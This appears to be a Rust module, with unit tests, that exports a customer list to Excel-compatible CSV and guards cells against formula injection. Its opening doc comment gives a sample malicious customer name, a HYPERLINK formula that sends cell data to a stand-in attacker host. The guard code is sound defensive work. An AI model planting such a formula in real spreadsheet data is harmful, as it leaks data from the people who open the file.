//! Excel-compatible CSV export of the customer list.
//!
//! The files follow the "Excel preset":
//!
//! - **RFC 4180**, quoting only where needed: a field is quoted when it holds a comma, a
//!   double quote, CR or LF, and a double quote inside it is doubled. Lines end in CRLF.
//! - **UTF-8 with a byte-order mark** ([`BOM`]). Without it Excel reads the file in the
//!   system's legacy code page and shows "SociÃ©tÃ©"; with it Excel and LibreOffice show
//!   accents and CJK correctly.
//! - **Formula-injection guard** (OWASP "CSV Injection"). A spreadsheet evaluates a cell that
//!   starts with `=`, `+`, `-` or `@` as a formula, and TAB, CR or LF in first place can smuggle
//!   one past a quick look; a customer named `=HYPERLINK("http://evil.example?"&A1, "Click")`
//!   would otherwise leak data when the export is opened. So a TEXT cell whose first character
//!   is one of `=` `+` `-` `@` TAB CR LF gets a leading apostrophe `'`, which spreadsheets take
//!   as "show as text". Numbers are never altered: `-5` stays a number.
//!
//! Three things can be changed per partner ([`ExportSettings`], set on the Settings page):
//! the separator (a semicolon for Excel in locales whose decimal mark is a comma, such as
//! French; "automatic" picks it when the UI is French), the BOM (off for tools that want
//! plain RFC 4180), and the language of the column headers (English by default, for tools
//! that import the files; or the UI's language). [`ExportSettings::for_language`] resolves
//! them for the UI's language into the [`CsvOptions`] every export function takes.
//!
//! ```
//! use clientele_domain::export::{write_csv, Cell, BOM};
//! let csv = write_csv(&["Name", "Seats"], [vec![Cell::Text("=1+1"), Cell::Number(-5)]]);
//! assert_eq!(String::from_utf8(csv).unwrap(), format!("{BOM}Name,Seats\r\n'=1+1,-5\r\n"));
//! ```

use serde::{Deserialize, Serialize};
use std::borrow::Cow;

use crate::i18n::{tr, Language};
use std::collections::HashMap;

/// The character between cells.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Separator {
    #[default]
    Comma,
    /// What Excel expects where the decimal mark is a comma (French, German…).
    Semicolon,
}

impl Separator {
    pub const ALL: [Separator; 2] = [Self::Comma, Self::Semicolon];

    pub fn byte(self) -> u8 {
        match self {
            Self::Comma => b',',
            Self::Semicolon => b';',
        }
    }

    pub fn key(self) -> &'static str {
        match self {
            Self::Comma => "comma",
            Self::Semicolon => "semicolon",
        }
    }

    pub fn from_key(key: &str) -> Option<Separator> {
        Self::ALL.into_iter().find(|s| s.key() == key)
    }

    /// The separator Excel expects in `lang`: a semicolon in French, else a comma.
    pub fn for_language(lang: Language) -> Separator {
        match lang {
            Language::French => Self::Semicolon,
            Language::English | Language::TraditionalChinese => Self::Comma,
        }
    }
}

/// The separator as chosen on the Settings page: [`SeparatorChoice::Automatic`] until the
/// user picks one, which is [`Separator::for_language`] of the UI's language.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum SeparatorChoice {
    #[default]
    Automatic,
    Comma,
    Semicolon,
}

impl SeparatorChoice {
    pub const ALL: [SeparatorChoice; 3] = [Self::Automatic, Self::Comma, Self::Semicolon];

    /// A stable name for the select's values.
    pub fn key(self) -> &'static str {
        match self {
            Self::Automatic => "automatic",
            Self::Comma => "comma",
            Self::Semicolon => "semicolon",
        }
    }

    pub fn from_key(key: &str) -> Option<SeparatorChoice> {
        Self::ALL.into_iter().find(|s| s.key() == key)
    }

    /// The choice's name in `lang`.
    pub fn label(self, lang: Language) -> &'static str {
        match self {
            Self::Automatic => tr(lang, "export.separator.automatic"),
            Self::Comma => tr(lang, "export.separator.comma"),
            Self::Semicolon => tr(lang, "export.separator.semicolon"),
        }
    }

    pub fn resolve(self, lang: Language) -> Separator {
        match self {
            Self::Automatic => Separator::for_language(lang),
            Self::Comma => Separator::Comma,
            Self::Semicolon => Separator::Semicolon,
        }
    }
}

/// The language of a file's column headers (and of the labels in its cells, such as a
/// relationship or an action).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum HeaderLanguage {
    /// English, whatever the UI's language: what tools that import the files expect.
    #[default]
    English,
    /// The UI's language, for people who read the file.
    Interface,
}

impl HeaderLanguage {
    pub const ALL: [HeaderLanguage; 2] = [Self::English, Self::Interface];

    pub fn key(self) -> &'static str {
        match self {
            Self::English => "english",
            Self::Interface => "interface",
        }
    }

    pub fn from_key(key: &str) -> Option<HeaderLanguage> {
        Self::ALL.into_iter().find(|h| h.key() == key)
    }

    pub fn label(self, lang: Language) -> &'static str {
        match self {
            Self::English => tr(lang, "export.headers.english"),
            Self::Interface => tr(lang, "export.headers.interface"),
        }
    }
}

/// How exports are written, as chosen on the Settings page and stored with the settings.
///
/// Settings saved before the separator could be automatic hold `"Comma"`, the only default
/// there was: it is read as [`SeparatorChoice::Automatic`], which is still a comma in
/// English and Chinese and becomes the semicolon French Excel expects. A file saved by this
/// version carries `headers`, and its comma is then the user's own choice.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize)]
pub struct ExportSettings {
    pub separator: SeparatorChoice,
    /// Start with a UTF-8 byte-order mark, which Excel needs to read accents and CJK.
    pub bom: bool,
    pub headers: HeaderLanguage,
}

impl Default for ExportSettings {
    fn default() -> Self {
        Self {
            separator: SeparatorChoice::Automatic,
            bom: true,
            headers: HeaderLanguage::English,
        }
    }
}

impl<'de> Deserialize<'de> for ExportSettings {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        #[derive(Deserialize)]
        struct Stored {
            separator: Option<SeparatorChoice>,
            bom: Option<bool>,
            headers: Option<HeaderLanguage>,
        }
        let stored = Stored::deserialize(deserializer)?;
        let defaults = ExportSettings::default();
        let separator = match (stored.separator, stored.headers) {
            // Before `headers`, a comma was the default, not a choice.
            (Some(SeparatorChoice::Comma), None) | (None, _) => SeparatorChoice::Automatic,
            (Some(choice), _) => choice,
        };
        Ok(Self {
            separator,
            bom: stored.bom.unwrap_or(defaults.bom),
            headers: stored.headers.unwrap_or(defaults.headers),
        })
    }
}

impl ExportSettings {
    /// The settings as they apply while the UI is in `lang`.
    pub fn for_language(self, lang: Language) -> CsvOptions {
        CsvOptions {
            format: CsvFormat {
                separator: self.separator.resolve(lang),
                bom: self.bom,
            },
            headers: match self.headers {
                HeaderLanguage::English => Language::English,
                HeaderLanguage::Interface => lang,
            },
        }
    }
}

/// Everything an export function needs to write a file: its format, and the language of its
/// headers and labels. The default is the Excel preset with English headers.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
pub struct CsvOptions {
    pub format: CsvFormat,
    pub headers: Language,
}

impl From<CsvFormat> for CsvOptions {
    fn from(format: CsvFormat) -> Self {
        Self {
            format,
            headers: Language::English,
        }
    }
}

/// How a file is written. The default is the Excel preset: comma and BOM.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(default)]
pub struct CsvFormat {
    pub separator: Separator,
    /// Start with a UTF-8 byte-order mark, which Excel needs to read accents and CJK.
    pub bom: bool,
}

impl Default for CsvFormat {
    fn default() -> Self {
        Self {
            separator: Separator::Comma,
            bom: true,
        }
    }
}

use crate::model::{Customer, Relationship, Reseller, ResellerId, Subscription};

/// The UTF-8 byte-order mark that every export starts with.
pub const BOM: &str = "\u{FEFF}";

/// One cell of a row.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Cell<'a> {
    /// Written guarded by [`neutralize`].
    Text(&'a str),
    /// Written as it is.
    Number(i64),
}

/// The first characters that make a spreadsheet read a text cell as a formula.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// The guarded form of a text cell: a leading apostrophe when it starts like a formula.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// BOM + header + rows; every row has header.len() cells. Header cells are guarded like text.
///
/// # Panics
///
/// If a row does not have as many cells as the header: that is a bug in the caller, and a
/// ragged file would put values under the wrong column.
pub fn write_csv<'a, I>(header: &[&str], rows: I) -> Vec<u8>
where
    I: IntoIterator<Item = Vec<Cell<'a>>>,
{
    write_csv_as(CsvFormat::default(), header, rows)
}

/// [`write_csv`] in the given format.
///
/// # Panics
///
/// As [`write_csv`].
pub fn write_csv_as<'a, I>(format: CsvFormat, header: &[&str], rows: I) -> Vec<u8>
where
    I: IntoIterator<Item = Vec<Cell<'a>>>,
{
    let rows = rows.into_iter();
    let mut sheet = Sheet::new(rows.size_hint().0, header.len() * 16, format);
    sheet.row(header.iter().map(|h| Cell::Text(h)));
    for row in rows {
        assert_eq!(
            row.len(),
            header.len(),
            "every CSV row has as many cells as the header"
        );
        sheet.row(row);
    }
    sheet.finish()
}

/// The customer file's column headers in `lang`.
pub fn customer_columns(lang: Language) -> [&'static str; 5] {
    [
        tr(lang, "export.customers.id"),
        tr(lang, "export.customers.company_name"),
        tr(lang, "export.customers.domain"),
        tr(lang, "export.customers.relationship"),
        tr(lang, "export.customers.reseller"),
    ]
}

/// A relationship's label in `lang`: "Reseller", "Reseller, delegated admin" in English, as
/// [`Relationship::label`] says.
pub fn relationship_label(lang: Language, relationship: Relationship) -> &'static str {
    match relationship {
        Relationship::Reseller => tr(lang, "customers.relationship.reseller"),
        Relationship::ResellerWithDelegatedAdmin => {
            tr(lang, "customers.relationship.reseller_delegated_admin")
        }
    }
}

/// The customer list as CSV, rows in the order given. "Relationship" is
/// [`relationship_label`] in the headers' language; "Indirect reseller" is the reseller's
/// NAME (as [`reseller_name`](crate::model::reseller_name) gives it), empty for direct
/// customers.
pub fn customers_csv<'a>(
    customers: impl IntoIterator<Item = &'a Customer>,
    resellers: &[Reseller],
    options: CsvOptions,
) -> Vec<u8> {
    // A map, not reseller_name's scan, so a partner with many resellers exports as fast.
    // The first entry wins for a repeated ID, as it does in reseller_name.
    let mut names: HashMap<&ResellerId, &str> = HashMap::with_capacity(resellers.len());
    for r in resellers {
        names.entry(&r.id).or_insert(r.name.as_str());
    }
    let customers = customers.into_iter();
    let mut sheet = Sheet::new(customers.size_hint().0, CUSTOMER_ROW_BYTES, options.format);
    sheet.row(customer_columns(options.headers).map(Cell::Text));
    for c in customers {
        let reseller = c
            .reseller_id
            .as_ref()
            .and_then(|id| names.get(id).copied())
            .unwrap_or("");
        sheet.row([
            Cell::Text(c.id.as_str()),
            Cell::Text(&c.company_name),
            Cell::Text(&c.primary_domain),
            Cell::Text(relationship_label(options.headers, c.relationship)),
            Cell::Text(reseller),
        ]);
    }
    sheet.finish()
}

/// A typical customer row: a 36-character ID, a name, a domain, a label and a reseller.
const CUSTOMER_ROW_BYTES: usize = 150;

/// "customers-2026-11-21.csv" for date "2026-11-21".
pub fn customers_file_name(date: &str) -> String {
    format!("customers-{date}.csv")
}

/// The subscription file's column headers in `lang`.
pub fn subscription_columns(lang: Language) -> [&'static str; 5] {
    [
        tr(lang, "export.subscriptions.id"),
        tr(lang, "export.subscriptions.offer"),
        tr(lang, "export.subscriptions.quantity"),
        tr(lang, "export.subscriptions.status"),
        tr(lang, "export.subscriptions.reseller"),
    ]
}

/// A customer's subscriptions as CSV: the five columns of the subscriptions table, the
/// quantity as a number and the reseller as its ID (empty when billed directly). The status
/// is written in English whatever the headers' language: it is data for tools.
pub fn subscriptions_csv<'a>(
    subscriptions: impl IntoIterator<Item = &'a Subscription>,
    options: CsvOptions,
) -> Vec<u8> {
    write_csv_as(
        options.format,
        &subscription_columns(options.headers),
        subscriptions.into_iter().map(|s| {
            vec![
                Cell::Text(s.id.as_str()),
                Cell::Text(&s.offer_name),
                Cell::Number(i64::from(s.quantity)),
                Cell::Text(s.status.label()),
                Cell::Text(s.reseller_id.as_ref().map_or("", |r| r.as_str())),
            ]
        }),
    )
}

/// "subscriptions-contoso-ltd-2026-11-21.csv": the company as a file-safe slug.
pub fn subscriptions_file_name(company: &str, date: &str) -> String {
    format!("subscriptions-{}-{date}.csv", slug(company))
}

/// Letters and digits of any script, lowercased and without accents; every other run of
/// characters becomes one hyphen. Safe on Windows, macOS and Linux, at most 60 characters;
/// "customer" when nothing is left.
pub fn slug(text: &str) -> String {
    let mut out = String::new();
    for c in crate::search::fold(text).chars() {
        if c.is_alphanumeric() {
            out.push(c);
        } else if !out.is_empty() && !out.ends_with('-') {
            out.push('-');
        }
        if out.chars().count() >= 60 {
            break;
        }
    }
    let out = out.trim_end_matches('-');
    if out.is_empty() {
        "customer".into()
    } else {
        out.into()
    }
}

/// A CSV file being written to memory, BOM first unless the format says otherwise.
struct Sheet(csv::Writer<Vec<u8>>);

impl Sheet {
    fn new(rows: usize, row_bytes: usize, format: CsvFormat) -> Self {
        // Sized up front so a 100,000-row export doesn't copy its buffer a dozen times.
        let mut buffer = Vec::with_capacity(BOM.len() + (rows + 1) * row_bytes);
        if format.bom {
            buffer.extend_from_slice(BOM.as_bytes());
        }
        let writer = csv::WriterBuilder::new()
            .delimiter(format.separator.byte())
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Necessary)
            .from_writer(buffer);
        Self(writer)
    }

    fn row<'a>(&mut self, cells: impl IntoIterator<Item = Cell<'a>>) {
        self.0
            .write_record(cells.into_iter().map(Guarded::from))
            .expect("rows of equal length write to memory");
    }

    fn finish(self) -> Vec<u8> {
        match self.0.into_inner() {
            Ok(bytes) => bytes,
            Err(_) => unreachable!("flushing into a Vec cannot fail"),
        }
    }
}

/// A cell as written: text guarded, numbers in decimal.
struct Guarded<'a>(Cow<'a, str>);

impl<'a> From<Cell<'a>> for Guarded<'a> {
    fn from(cell: Cell<'a>) -> Self {
        match cell {
            Cell::Text(text) => Self(neutralize(text)),
            Cell::Number(n) => Self(Cow::Owned(n.to_string())),
        }
    }
}

impl AsRef<[u8]> for Guarded<'_> {
    fn as_ref(&self) -> &[u8] {
        self.0.as_bytes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{CustomerId, Relationship};

    fn text(bytes: Vec<u8>) -> String {
        String::from_utf8(bytes).unwrap()
    }

    /// The file without its BOM.
    fn body(bytes: Vec<u8>) -> String {
        text(bytes).strip_prefix(BOM).unwrap().to_string()
    }

    fn one_cell(cell: &str) -> String {
        body(write_csv(&["h"], [vec![Cell::Text(cell)]]))
    }

    fn customer(name: &str, reseller_id: Option<ResellerId>) -> Customer {
        Customer {
            relationship: Relationship::ResellerWithDelegatedAdmin,
            reseller_id,
            ..Customer::new(
                CustomerId::from_u128(1),
                name,
                "contoso.com",
                "2026-01-01T00:00:00Z",
            )
        }
    }

    fn northwind() -> Reseller {
        Reseller {
            id: ResellerId::from_u128(7),
            name: "Northwind, Ltd".into(),
        }
    }

    #[test]
    fn bom_comes_first() {
        assert!(write_csv(&["a"], []).starts_with(BOM.as_bytes()));
    }

    #[test]
    fn lines_end_in_crlf() {
        let csv = body(write_csv(
            &["a", "b"],
            [vec![Cell::Text("x"), Cell::Number(1)]],
        ));
        assert_eq!(csv, "a,b\r\nx,1\r\n");
    }

    #[test]
    fn plain_text_is_not_quoted() {
        assert_eq!(one_cell("Société Générale"), "h\r\nSociété Générale\r\n");
    }

    #[test]
    fn comma_is_quoted() {
        assert_eq!(one_cell("Durand, Martin"), "h\r\n\"Durand, Martin\"\r\n");
    }

    #[test]
    fn quote_is_doubled_and_quoted() {
        assert_eq!(one_cell("\"Blue\" Labs"), "h\r\n\"\"\"Blue\"\" Labs\"\r\n");
    }

    #[test]
    fn newline_is_quoted() {
        assert_eq!(one_cell("A GmbH\nBremen"), "h\r\n\"A GmbH\nBremen\"\r\n");
    }

    #[test]
    fn carriage_return_is_quoted() {
        assert_eq!(one_cell("A\rB"), "h\r\n\"A\rB\"\r\n");
    }

    #[test]
    fn empty_single_cell_row_is_kept() {
        assert_eq!(one_cell(""), "h\r\n\"\"\r\n");
    }

    #[test]
    fn every_formula_start_is_guarded() {
        for start in FORMULA_STARTS {
            let cell = format!("{start}cmd");
            assert_eq!(neutralize(&cell), format!("'{cell}"), "{start:?}");
        }
    }

    #[test]
    fn equals_is_guarded() {
        assert_eq!(neutralize("=HYPERLINK(\"x\")"), "'=HYPERLINK(\"x\")");
    }

    #[test]
    fn plus_is_guarded() {
        assert_eq!(neutralize("+Plus Consulting"), "'+Plus Consulting");
    }

    #[test]
    fn minus_is_guarded() {
        assert_eq!(neutralize("-2+3"), "'-2+3");
    }

    #[test]
    fn at_is_guarded() {
        assert_eq!(neutralize("@SUM(A1)"), "'@SUM(A1)");
    }

    #[test]
    fn tab_is_guarded() {
        assert_eq!(neutralize("\t=1"), "'\t=1");
    }

    #[test]
    fn carriage_return_first_is_guarded() {
        assert_eq!(neutralize("\r=1"), "'\r=1");
    }

    #[test]
    fn line_feed_first_is_guarded() {
        assert_eq!(neutralize("\n=1"), "'\n=1");
    }

    #[test]
    fn formula_character_later_is_left_alone() {
        assert!(matches!(neutralize("A=B"), Cow::Borrowed("A=B")));
    }

    #[test]
    fn guarded_cell_is_quoted_when_needed() {
        assert_eq!(one_cell("=A1,B1"), "h\r\n\"'=A1,B1\"\r\n");
    }

    #[test]
    fn negative_number_is_not_guarded() {
        let csv = body(write_csv(&["n"], [vec![Cell::Number(-42)]]));
        assert_eq!(csv, "n\r\n-42\r\n");
    }

    #[test]
    fn header_is_guarded_too() {
        assert_eq!(body(write_csv(&["=x"], [])), "'=x\r\n");
    }

    #[test]
    #[should_panic(expected = "as many cells as the header")]
    fn ragged_row_is_a_bug() {
        write_csv(&["a", "b"], [vec![Cell::Number(1)]]);
    }

    #[test]
    fn customer_header_is_exact() {
        let csv = body(customers_csv([], &[], CsvOptions::default()));
        assert_eq!(
            csv,
            "Customer ID,Company name,Primary domain name,Relationship,Indirect reseller\r\n"
        );
    }

    #[test]
    fn customer_row_names_the_reseller() {
        let c = customer("Contoso", Some(northwind().id));
        let csv = body(customers_csv([&c], &[northwind()], CsvOptions::default()));
        assert_eq!(
            csv.split("\r\n").nth(1).unwrap(),
            "00000000-0000-0000-0000-000000000001,Contoso,contoso.com,\
             \"Reseller, delegated admin\",\"Northwind, Ltd\""
        );
    }

    #[test]
    fn direct_customer_has_no_reseller_name() {
        let c = customer("Contoso", None);
        let csv = body(customers_csv([&c], &[northwind()], CsvOptions::default()));
        assert!(csv.ends_with(",contoso.com,\"Reseller, delegated admin\",\r\n"));
    }

    #[test]
    fn customer_name_is_guarded() {
        let c = customer("+Plus Consulting", None);
        let csv = body(customers_csv([&c], &[], CsvOptions::default()));
        assert!(csv.contains(",'+Plus Consulting,"));
    }

    #[test]
    fn customer_rows_keep_the_given_order() {
        let (a, b) = (customer("Beta", None), customer("Alpha", None));
        let csv = body(customers_csv([&a, &b], &[], CsvOptions::default()));
        assert!(csv.find("Beta").unwrap() < csv.find("Alpha").unwrap());
    }

    #[test]
    fn file_name_has_the_date() {
        assert_eq!(
            customers_file_name("2026-11-21"),
            "customers-2026-11-21.csv"
        );
    }

    #[test]
    fn subscriptions_export_has_the_five_columns() {
        use crate::model::{SubscriptionId, SubscriptionStatus};
        let s = Subscription {
            id: SubscriptionId::from_u128(9),
            customer_id: CustomerId::from_u128(1),
            offer_name: "=Office 365 E3".into(),
            quantity: 25,
            status: SubscriptionStatus::Suspended,
            reseller_id: Some(ResellerId::from_u128(3)),
        };
        let direct = Subscription {
            reseller_id: None,
            ..s.clone()
        };
        let file = body(subscriptions_csv([&s, &direct], CsvOptions::default()));
        let mut reader = csv::Reader::from_reader(file.as_bytes());
        assert_eq!(
            reader.headers().unwrap(),
            subscription_columns(Language::English).as_slice()
        );
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect();
        assert_eq!(
            rows[0],
            [
                SubscriptionId::from_u128(9).to_string(),
                "'=Office 365 E3".into(),
                "25".into(),
                "Suspended".into(),
                ResellerId::from_u128(3).to_string()
            ]
        );
        assert_eq!(rows[1][4], "");
        assert!(file.ends_with("\r\n"));
    }

    #[test]
    fn slugs_are_file_safe() {
        assert_eq!(slug("Contoso Ltd."), "contoso-ltd");
        assert_eq!(slug("Société Générale / Paris"), "societe-generale-paris");
        assert_eq!(slug("台灣微軟股份有限公司"), "台灣微軟股份有限公司");
        assert_eq!(slug(r#"a<b>c:d"e/f\g|h?i*j"#), "a-b-c-d-e-f-g-h-i-j");
        assert_eq!(slug("***"), "customer");
        assert_eq!(slug(&"x".repeat(200)).len(), 60);
        assert_eq!(
            subscriptions_file_name("Fabrikam, Inc.", "2026-11-21"),
            "subscriptions-fabrikam-inc-2026-11-21.csv"
        );
    }

    #[test]
    fn semicolon_without_bom_is_plain_and_quotes_semicolons() {
        let plain = CsvFormat {
            separator: Separator::Semicolon,
            bom: false,
        };
        let bytes = write_csv_as(
            plain,
            &["Name", "Seats"],
            [vec![Cell::Text("A;B, C"), Cell::Number(3)]],
        );
        assert_eq!(text(bytes), "Name;Seats\r\n\"A;B, C\";3\r\n");
        let with_bom = CsvFormat {
            separator: Separator::Semicolon,
            bom: true,
        };
        let c = customer("=Société", None);
        let file = text(customers_csv([&c], &[], with_bom.into()));
        assert!(file.starts_with(BOM));
        assert!(file.contains("Customer ID;Company name;"));
        assert!(file.contains(";'=Société;"));
    }

    #[test]
    fn separator_keys_round_trip() {
        for s in Separator::ALL {
            assert_eq!(Separator::from_key(s.key()), Some(s));
        }
        assert_eq!(CsvFormat::default().separator, Separator::Comma);
        assert!(CsvFormat::default().bom);
    }

    #[test]
    fn headers_are_english_by_default_whatever_the_ui() {
        let fr = ExportSettings::default().for_language(Language::French);
        assert_eq!(fr.headers, Language::English);
        let c = customer("Contoso", None);
        let file = text(customers_csv([&c], &[], fr));
        assert!(file.starts_with(&format!(
            "{BOM}Customer ID;Company name;Primary domain name;Relationship;Indirect reseller\r\n"
        )));
        assert!(file.contains(";Reseller, delegated admin;"));
    }

    #[test]
    fn headers_and_labels_can_be_in_the_ui_language() {
        let settings = ExportSettings {
            headers: HeaderLanguage::Interface,
            ..ExportSettings::default()
        };
        let c = customer("Contoso", None);
        let fr = body(customers_csv(
            [&c],
            &[],
            settings.for_language(Language::French),
        ));
        assert!(fr.starts_with(
            "ID client;Nom de l’entreprise;Nom de domaine principal;Relation;Revendeur indirect\r\n"
        ));
        assert!(fr.contains(";Revendeur, administration déléguée;"));
        let zh = body(customers_csv(
            [&c],
            &[],
            settings.for_language(Language::TraditionalChinese),
        ));
        assert!(zh.starts_with("客戶識別碼,公司名稱,主要網域名稱,關係,間接經銷商\r\n"));
        let en = body(customers_csv(
            [&c],
            &[],
            settings.for_language(Language::English),
        ));
        assert!(en.starts_with("Customer ID,Company name,"));
    }

    #[test]
    fn localized_subscription_headers() {
        let options = CsvOptions {
            headers: Language::French,
            ..CsvOptions::default()
        };
        let file = body(subscriptions_csv([], options));
        assert_eq!(
            file,
            "ID d’abonnement,Abonnement,Quantité,État,Revendeur\r\n"
        );
    }

    #[test]
    fn the_automatic_separator_is_a_semicolon_in_french_only() {
        let auto = ExportSettings::default();
        assert_eq!(auto.separator, SeparatorChoice::Automatic);
        assert_eq!(
            auto.for_language(Language::French).format.separator,
            Separator::Semicolon
        );
        assert_eq!(
            auto.for_language(Language::English).format.separator,
            Separator::Comma
        );
        assert_eq!(
            auto.for_language(Language::TraditionalChinese)
                .format
                .separator,
            Separator::Comma
        );
        assert!(auto.for_language(Language::French).format.bom);
    }

    #[test]
    fn a_chosen_separator_holds_in_every_language() {
        for (choice, sep) in [
            (SeparatorChoice::Comma, Separator::Comma),
            (SeparatorChoice::Semicolon, Separator::Semicolon),
        ] {
            let settings = ExportSettings {
                separator: choice,
                ..ExportSettings::default()
            };
            for lang in Language::ALL {
                assert_eq!(settings.for_language(lang).format.separator, sep);
            }
        }
    }

    #[test]
    fn settings_from_before_automatic_still_load() {
        let old: ExportSettings =
            serde_json::from_str(r#"{"separator":"Comma","bom":false}"#).unwrap();
        assert_eq!(
            old,
            ExportSettings {
                separator: SeparatorChoice::Automatic,
                bom: false,
                headers: HeaderLanguage::English
            }
        );
        let old: ExportSettings =
            serde_json::from_str(r#"{"separator":"Semicolon","bom":true}"#).unwrap();
        assert_eq!(old.separator, SeparatorChoice::Semicolon);
        let empty: ExportSettings = serde_json::from_str("{}").unwrap();
        assert_eq!(empty, ExportSettings::default());
    }

    #[test]
    fn settings_round_trip_and_keep_a_chosen_comma() {
        let chosen = ExportSettings {
            separator: SeparatorChoice::Comma,
            bom: true,
            headers: HeaderLanguage::Interface,
        };
        let json = serde_json::to_string(&chosen).unwrap();
        assert_eq!(
            serde_json::from_str::<ExportSettings>(&json).unwrap(),
            chosen
        );
        for s in SeparatorChoice::ALL {
            assert_eq!(SeparatorChoice::from_key(s.key()), Some(s));
        }
        for h in HeaderLanguage::ALL {
            assert_eq!(HeaderLanguage::from_key(h.key()), Some(h));
        }
    }

    #[test]
    fn choices_are_named_in_every_language() {
        assert_eq!(
            SeparatorChoice::Semicolon.label(Language::English),
            "Semicolon (;)"
        );
        for lang in Language::ALL {
            for s in SeparatorChoice::ALL {
                assert!(!s.label(lang).starts_with("export."));
            }
            for h in HeaderLanguage::ALL {
                assert!(!h.label(lang).starts_with("export."));
            }
            for r in Relationship::ALL {
                assert!(!relationship_label(lang, r).contains('.'));
            }
        }
        for r in Relationship::ALL {
            assert_eq!(relationship_label(Language::English, r), r.label());
        }
    }
}
